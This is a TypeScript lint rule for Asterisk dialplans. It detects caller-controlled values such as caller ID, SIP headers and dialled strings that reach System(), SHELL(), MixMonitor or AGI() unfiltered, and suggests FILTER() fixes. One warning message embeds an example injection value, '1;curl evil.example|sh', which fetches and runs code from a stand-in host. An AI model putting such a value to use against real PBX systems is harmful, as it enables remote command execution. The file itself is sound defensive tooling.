import type { Rule, Severity } from '../../rule';
import { charsetFor, extenAlphabet, fixedAlphabet } from '../../asterisk/dialplan';
import type { CallerRef, DpLine } from '../../asterisk/dialplan';
import { AGI_UNSAFE, Reporter, argFlows, contextList, dialplanOf, filterFix, filterNote, liveLines, reachable, refsIn, shellSinks, showChar } from './util';
import type { PlacedRef, Sink } from './util';

const SOURCE: Record<CallerRef['source'], string> = {
  exten: 'the dialled string',
  callerid: 'the caller ID, which the caller sets',
  party: 'a party name/number the far end sends',
  header: 'a SIP header the caller writes',
  cdr: 'a CDR field copied from the caller',
};

/** FILTER charset for the fix: digits for numbers (plus '+'), letters and digits for names. */
function charsetOf(ref: CallerRef, line: DpLine, unsafe: string): string {
  if (ref.source === 'exten') {
    const a = line.pattern && !line.pattern.broken ? fixedAlphabet(line.pattern) : undefined;
    return charsetFor(a && a.size ? a : undefined, unsafe);
  }
  return ref.nameLike ? '0-9a-zA-Z' : '0-9+';
}

function severityOf(sink: Sink): Severity | undefined {
  // An AGI script is executed directly (no shell); the value only becomes a shell command if the script passes it on.
  return sink.kind === 'agi' ? 'warning' : undefined;
}

function impact(sink: Sink): string {
  return sink.kind === 'agi'
    ? 'the script receives it raw (and a \',\' adds arguments); a script that hands it to a shell runs the caller\'s commands'
    : 'a value such as `1;curl evil.example|sh` runs commands on the PBX as the Asterisk user';
}

/** '' when every dangerous character gets through (the usual case), else the ones that do. */
function leakedNote(leaked: string, unsafe: string): string {
  if (leaked === unsafe) return '';
  return ` It can still carry ${[...leaked].map(showChar).join(' ')}.`;
}

export const rule: Rule = {
  id: 'dialplan-callerid-shell',
  title: 'Caller-controlled value in a shell command',
  severity: 'error',
  fileKinds: ['extensions'],
  fix: 'offer',
  description:
    'Caller ID, SIP headers and the dialled string under a wildcard pattern are chosen by the caller. Put unfiltered into System(), TrySystem(), SHELL(), a MixMonitor() command or AGI() arguments, shell metacharacters in them run commands on the PBX. Wrap them in FILTER().',
  check(ctx) {
    const dp = dialplanOf(ctx.doc);
    const out = new Reporter(ctx);
    const report = (p: PlacedRef, line: DpLine, sink: Sink, via?: { n: number; context: string; uses: { span: { start: number; end: number }; message: string }[] }) => {
      const leaked = reachable(p.ref, sink.unsafe, extenAlphabet(line));
      if (!leaked) return;
      const cs = charsetOf(p.ref, line, sink.unsafe);
      const what = p.ref.source === 'exten' ? `${SOURCE.exten} (pattern ${line.ext.text})` : SOURCE[p.ref.source];
      out.report(p.part, line.context.name, (contexts) => ({
        severity: severityOf(sink),
        message: via
          ? `${p.ref.text} (${what}) is passed as ARG${via.n} to [${via.context}], which puts it into ${sink.what} unfiltered (in ${contextList(contexts)}): ${impact(sink)}.${leakedNote(leaked, sink.unsafe)}`
          : `${p.ref.text} (${what}) goes into ${sink.what} in ${contextList(contexts)} unfiltered${filterNote(p.ref, sink.unsafe)}: ${impact(sink)}.${leakedNote(leaked, sink.unsafe)}`,
        fixes: filterFix(p, cs, `Wrap in \${FILTER(${cs},…)} (keeps only ${cs})`),
        related: via?.uses,
      }));
    };
    for (const line of liveLines(dp)) {
      for (const sink of shellSinks(line)) for (const p of refsIn(sink.part)) report(p, line, sink);
      const app = line.app.name.text.toLowerCase();
      if (app !== 'gosub' && app !== 'macro' || !line.app.data) continue;
      const chars = extenAlphabet(line);
      if (!refsIn(line.app.data).some((p) => reachable(p.ref, AGI_UNSAFE, chars))) continue;
      const flow = argFlows(dp, line, shellSinks);
      if (!flow || !flow.flows.length) continue;
      flow.args.forEach((arg, i) => {
        const uses = flow.flows.filter((f) => f.n === i + 1);
        if (!uses.length) return;
        // The strictest sink decides what must be filtered.
        const sink = uses.find((u) => u.sink.kind === 'shell')?.sink ?? uses[0].sink;
        for (const p of refsIn(arg)) {
          report(p, line, sink, { n: i + 1, context: flow.context, uses: uses.map((u) => ({ span: u.span, message: `ARG${u.n} used in ${u.sink.what} here` })) });
        }
      });
    }
    out.flush();
  },
};
